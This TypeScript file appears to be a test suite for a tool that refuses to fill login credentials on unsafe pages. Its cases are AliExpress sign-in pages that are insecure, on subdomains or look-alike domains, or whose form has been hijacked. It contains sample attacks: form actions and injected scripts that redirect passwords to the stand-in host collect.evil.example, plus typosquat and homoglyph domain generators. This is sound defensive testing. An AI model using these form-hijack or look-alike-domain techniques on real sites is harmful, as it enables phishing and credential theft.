// Owns the attacks by where a page stands and where its form sends: http and changed actions (A4), subdomains (A5), look-alikes (A6).

import type { Reason } from '@/utils/core/result';
import { loginFamilyHosts } from '../../../utils/stores';
import { CHANGE_FORM, change, LOGIN_PAGE, page, type Row, SIGN_IN_FORM, signIn } from '../row';
import { pause, type Scene } from '../scene';

const EVIL = 'https://collect.evil.example/sent';
const withAction = (form: string, action: string) => form.replace('action="/sent"', `action="${action}"`);
const refused = (...reasons: Reason[]) => ({ end: 'refused', reasons }) as const;
const ACTION = refused('action-changed');

/** The form is turned once its boxes are filled, and sent: the stranger gets nothing, and the popup says why. */
async function gotNothing(scene: Scene, how: 'at once' | 'at the click'): Promise<string[]> {
  const { page: tab, server } = scene;
  const asked = server.requests.length;
  if (how === 'at once') {
    await tab.evaluate((to) => document.getElementById('form')?.setAttribute('action', to), [EVIL] as const);
    await pause(300);
  }
  await tab.click({ css: '#send' });
  await pause(700);
  const sent = server.requests.slice(asked).filter(({ host }) => host.includes('evil'));
  const held = sent.some(({ bytes }) => /(password|fresh|again)=[^&\s]/.test(bytes.toString('latin1')));
  return [
    ...(held ? ['the filled password went to a stranger'] : []),
    ...((await scene.view())?.trouble === 'action-changed' ? [] : ['the popup does not say that the form was turned']),
  ];
}

const TURNED =
  '<script>document.getElementById("send").addEventListener("mousedown", () => { document.getElementById("form").action = "https://collect.evil.example/sent"; })</script>';
const named = CHANGE_FORM.replace('id="fresh"', 'id="fresh" name="fresh"').replace(
  'id="again"',
  'id="again" name="again"',
);

export const ACTIONS: readonly Row[] = [
  {
    ...signIn('A4', 'http at a listed host', {}, refused('not-secure')),
    address: 'http://login.aliexpress.com/sign-in',
    sample: true,
  },
  {
    ...change('A4', 'http at the page that changes it', {}, refused('not-secure')),
    address: 'http://passport.aliexpress.com/change',
  },
  signIn('A4', 'the form sends elsewhere', { form: withAction(SIGN_IN_FORM, EVIL) }, ACTION),
  signIn(
    'A4',
    'the form sends by http',
    { form: withAction(SIGN_IN_FORM, 'http://login.aliexpress.com/sent') },
    ACTION,
  ),
  signIn(
    'A4',
    'a button sends elsewhere',
    { form: SIGN_IN_FORM.replace('<button', `<button formaction="${EVIL}"`) },
    ACTION,
  ),
  signIn(
    'A4',
    'a button outside of the form sends elsewhere',
    {
      form: `${SIGN_IN_FORM}<button form="form" formaction="${EVIL}">Go</button>`,
    },
    ACTION,
  ),
  signIn('A4', 'a base sends elsewhere', { head: '<base href="https://collect.evil.example/">' }, ACTION),
  signIn(
    'A4',
    'an input is called action',
    {
      form: withAction(SIGN_IN_FORM, EVIL).replace(
        '</form>',
        '<input type="hidden" name="action" value="/sent"></form>',
      ),
    },
    ACTION,
  ),
  {
    ...signIn('A4', 'the action turns between reading and filling', {}, ACTION),
    before: async ({ page: tab }) =>
      tab.evaluate((to) => document.getElementById('form')?.setAttribute('action', to), [EVIL] as const),
    sample: true,
  },
  {
    ...change('A4', 'the action turns after the fill', { form: named }),
    after: (scene) => gotNothing(scene, 'at once'),
    sample: true,
  },
  {
    ...change('A4', 'the action turns under the mouse', { form: named, body: TURNED }),
    after: (scene) => gotNothing(scene, 'at the click'),
  },
  {
    ...signIn(
      'A4',
      'the page leaves in the moment of the fill',
      {},
      { end: 'refused', reasons: ['page-changed', 'page-silent', 'not-listed', 'no-box'] },
    ),
    before: async ({ page: tab }) => {
      await tab.goto('https://collect.evil.example/sign-in').catch(() => undefined);
    },
  },
];

/** Hosts under the store's domain that are not the login's: a shop's own pages, user content, tests. */
const UNLISTED = [
  'reviews',
  'sellercenter',
  'best',
  'sale',
  'feedback',
  'group',
  'img',
  'cdn',
  'static',
  'test',
  'dev',
  'api',
  'open',
  'ads',
  'blog',
  'forum',
  'files',
  'evil',
  'login-m',
  'x.login',
];

const NOT_KNOWN = refused('not-listed', 'left-alone', 'not-a-site', 'not-secure', 'no-page', 'frame-not-trusted');

export const SUBDOMAINS: readonly Row[] = UNLISTED.map((label, at) => ({
  ...signIn('A5', `${label}.aliexpress.com`, {}, NOT_KNOWN),
  address: `https://${label}.aliexpress.com/sign-in`,
  ...(at === 0 ? { sample: true as const } : {}),
}));

/** Turns a listed host into one that people take for it; the answer is what a browser can open. */
const DISGUISES: readonly ((host: string) => string)[] = [
  (host) => `${host}.evil.example`,
  (host) => host.replace('aliexpress', 'aliexpress-secure'),
  (host) => host.replace('aliexpress', 'ali-express'),
  (host) => host.replace('aliexpress', 'aliexpres'),
  (host) => host.replace('aliexpress', 'aliexpresss'),
  (host) => host.replace('aliexpress', 'a1iexpress'),
  (host) => host.replace('aliexpress', 'aiiexpress'),
  // Cyrillic a, Greek omicron for nothing that is there, and a Latin letter with a dot, each as browsers write them.
  (host) => new URL(`https://${host.replace('aliexpress', '\u0430liexpress')}`).hostname,
  (host) => new URL(`https://${host.replace('aliexpress', 'al\u0456express')}`).hostname,
  (host) => new URL(`https://${host.replace('aliexpress', 'ali\u0435xpress')}`).hostname,
  (host) => new URL(`https://${host.replace('aliexpress', 'ali\u1eb9xpress')}`).hostname,
  (host) => host.replace('.com', '.co'),
  (host) => host.replace('.com', '.cm'),
  (host) => host.replace('.com', '.net'),
  (host) => host.replace('.com', '.com.co'),
  (host) => host.replaceAll('.', '-').replace(/-com$/, '.com'),
  (host) => `${host.split('.')[0]}.com-aliexpress.com`,
  (host) => `evil${host}`,
];

/** Spellings of an address that browsers may read in more than one way; `[spelling, host that it leads to]`. */
const SPELLINGS: readonly (readonly [name: string, address: string])[] = [
  ['a name before the host', 'https://login.aliexpress.com@frame.evil.example/sign-in'],
  ['a coded dot', 'https://login%2ealiexpress.com.evil.example/sign-in'],
  ['a trailing dot', 'https://login.aliexpress.com./sign-in'],
  ['the host as a path', 'https://frame.evil.example/sign-in?login.aliexpress.com'],
  ['an address of numbers', 'https://127.0.0.1/sign-in'],
  ['data:', `data:text/html;base64,${Buffer.from(page(SIGN_IN_FORM)).toString('base64')}`],
];

const lookAlikes = [
  ...new Set(
    ['login.aliexpress.com', 'www.aliexpress.com'].flatMap((host) => DISGUISES.map((disguise) => disguise(host))),
  ),
];

/** Names that the browsers under test have to be led to. */
export const STRANGERS: readonly string[] = [
  ...lookAlikes,
  'frame.evil.example',
  'collect.evil.example',
  'login.aliexpress.com.evil.example',
  'login.aliexpress.com.',
  'www.amazon.com',
];

export const LOOK_ALIKES: readonly Row[] = [
  ...lookAlikes.map((host, at) => ({
    ...signIn('A6', host, {}, NOT_KNOWN),
    address: `https://${host}/sign-in`,
    ...(at === 0 || host.startsWith('login.xn--') ? { sample: true as const } : {}),
  })),
  ...SPELLINGS.map(([name, address]) => ({ ...signIn('A6', name, {}, NOT_KNOWN), address })),
  {
    ...signIn('A6', 'capitals and a port that say nothing are the host itself (the rows can tell)', {}),
    address: LOGIN_PAGE.replace('login.aliexpress.com', 'LOGIN.AliExpress.com:443'),
  },
  // Every listed host is taken for what it is.
  ...loginFamilyHosts
    .filter((host) => !host.endsWith('.ru'))
    .map((host) => ({ ...signIn('A6', `${host} is the store’s`, {}), address: `https://${host}/sign-in` })),
];
